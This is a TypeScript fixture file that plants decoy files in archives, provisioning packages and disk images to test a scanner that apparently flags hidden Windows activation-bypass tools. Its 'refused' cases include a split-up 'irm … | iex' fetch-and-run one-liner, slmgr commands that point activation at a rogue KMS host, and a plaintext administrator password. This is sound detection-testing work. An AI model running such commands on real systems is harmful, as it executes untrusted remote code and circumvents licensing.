// Cases that hide in containers: archives, images in the image, packages; and honest ones of the same kinds.
import { peFile } from '../../scripts/dev/fixtures/bytes.ts';
import { decoyKey } from '../../scripts/dev/fixtures/product-id.ts';
import type { CorpusCases } from './case.ts';
import { archive, discImage, emulatorBody, joined, wide, wimOf } from './decoys.ts';

const program = () => peFile('tool.exe', emulatorBody());
const at = (path: string, content: Uint8Array | string) => ({ files: { [path]: content } });
const customizations = (inner: string) =>
  `<?xml version="1.0" encoding="utf-8"?><WindowsCustomizations><PackageConfig xmlns="urn:schemas-Microsoft-com:Windows-ICD-Package-Config.v1.0"><ID>{0b6f4d5e-1111-2222-3333-444455556666}</ID><Name>corp</Name><Version>1.0</Version></PackageConfig><Settings xmlns="urn:schemas-microsoft-com:windows-provisioning"><Customizations><Common>${inner}</Common></Customizations></Settings></WindowsCustomizations>`;

export const containerCases: CorpusCases = {
  refused: [
    {
      name: 'in a zip of another name',
      rows: ['E02'],
      plant: () => at('/ProgramData/help.dat', archive('zip', { 'a/tool.exe': program() })),
    },
    {
      name: 'in a zip in a zip',
      rows: ['E02'],
      plant: () => at('/ProgramData/docs.zip', archive('zip', { 'inner.bin': archive('zip', { 'tool.exe': program() }) })),
    },
    {
      name: 'in a solid 7z',
      rows: ['E03'],
      plant: () => at('/ProgramData/data.7z', archive('7z', { 'one.txt': 'one', 'tool.exe': program() })),
    },
    {
      name: 'in a tape archive that is packed',
      rows: ['E02'],
      plant: () => at('/ProgramData/data.tgz', archive('gzip', { 'data.tar': archive('tar', { 'tool.exe': program() }) })),
    },
    {
      name: 'behind a program',
      rows: ['E06'],
      plant: () => at('/ProgramData/setup.exe', Buffer.concat([peFile('setup.exe'), archive('7z', { 'tool.exe': program() })])),
    },
    {
      name: 'in a package of settings',
      rows: ['E22'],
      plant: () =>
        at(
          '/ProgramData/Microsoft/Provisioning/corp.ppkg',
          wimOf({
            'customizations.xml': customizations(
              '<ProvisioningCommands><DeviceContext><CommandLine>cmd /c start.cmd</CommandLine></DeviceContext></ProvisioningCommands>',
            ),
            'start.cmd': 'cscript slmgr.vbs /skms kms.evil.example\r\ncscript slmgr.vbs /ato\r\n',
          }),
        ),
    },
    {
      name: 'a key in a package of settings',
      rows: ['E22', 'K'],
      plant: () =>
        at(
          '/ProgramData/Microsoft/Provisioning/key.ppkg',
          wimOf({
            'customizations.xml': customizations(
              `<WindowsLicensing><UpgradeEditionWithProductKey>${decoyKey()}</UpgradeEditionWithProductKey></WindowsLicensing>`,
            ),
          }),
        ),
    },
    {
      name: 'in the recovery image',
      rows: ['E24'],
      plant: () => at('/Windows/System32/Recovery/winre.wim', wimOf({ 'Windows/System32/tool.dll': program() })),
    },
    { name: 'in a disc image', rows: ['E35'], plant: () => at('/Users/Public/disc.iso', discImage({ 'tool.exe': program() })) },
    {
      name: 'an archive with a password',
      rows: ['G13'],
      plant: () => at(`/Windows/Setup/Scripts/data.7z`, archive('7z', { 'tool.exe': program() }, [`-p${joined('se', 'cret')}`, '-mhe=on'])),
    },
    {
      name: 'an answer file with a password in an archive',
      rows: ['S', 'E02'],
      plant: () =>
        at(
          '/ProgramData/deploy.zip',
          archive('zip', {
            'unattend.xml': `<unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="oobeSystem"><component name="Microsoft-Windows-Shell-Setup" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS"><UserAccounts><AdministratorPassword><Value>Decoy-Pa55</Value><PlainText>true</PlainText></AdministratorPassword></UserAccounts></component></settings></unattend>`,
          }),
        ),
    },
    {
      name: 'a key in a document that is an archive',
      rows: ['K'],
      plant: () => at('/Users/Public/licences.docx', archive('zip', { 'word/document.xml': `<w:t>${decoyKey()}</w:t>` })),
    },
    {
      name: 'a script of two bytes a letter in an archive',
      rows: ['E12', 'E02'],
      plant: () => at('/ProgramData/tools.zip', archive('zip', { 'fix.ps1': wide(joined('irm https://get.', 'activated', '.win | iex')) })),
    },
  ],
  honest: [
    {
      name: 'an archive of texts',
      rows: ['E02'],
      plant: () => at('/ProgramData/docs.zip', archive('zip', { 'a.txt': 'a', 'b/c.txt': 'c' })),
    },
    {
      name: 'a package of settings without anything of it',
      rows: ['E22'],
      plant: () =>
        at(
          '/ProgramData/Microsoft/Provisioning/power.ppkg',
          wimOf({ 'customizations.xml': customizations('<Power><Settings>1</Settings></Power>') }),
        ),
    },
    {
      name: 'a recovery image',
      rows: ['E24'],
      plant: () => at('/Windows/System32/Recovery/winre.wim', wimOf({ 'Windows/System32/kernel32.dll': peFile('kernel32.dll') })),
    },
    {
      name: 'an incident report in an archive',
      rows: ['T01'],
      plant: () => at('/Users/Public/reports.zip', archive('zip', { 'report.md': `The image held ${joined('vlm', 'csd')}.\n` })),
    },
  ],
};
